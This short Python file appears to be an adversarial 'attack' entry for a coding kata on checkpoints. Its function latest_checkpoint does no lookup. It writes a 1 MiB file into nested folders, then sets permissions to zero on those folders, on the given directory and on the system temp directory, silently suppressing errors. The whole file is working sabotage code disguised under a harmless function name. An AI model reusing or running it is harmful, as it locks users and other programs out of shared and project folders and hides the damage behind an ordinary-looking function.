"""Locks the folder that all functions save in, and leaves folders in it that nobody may enter or remove."""
# kata: 06_checkpoint
# attacks: latest_checkpoint
# examples: 4

import contextlib
import os
import tempfile


def latest_checkpoint(directory):
    for folder in (tempfile.gettempdir(), directory):
        with contextlib.suppress(OSError):
            os.makedirs(os.path.join(folder, "locked", "deep"), exist_ok=True)
            with open(os.path.join(folder, "locked", "deep", "large"), "wb") as file:
                file.write(bytes(2**20))
            os.chmod(os.path.join(folder, "locked", "deep"), 0)
            os.chmod(os.path.join(folder, "locked"), 0)
            os.chmod(folder, 0)
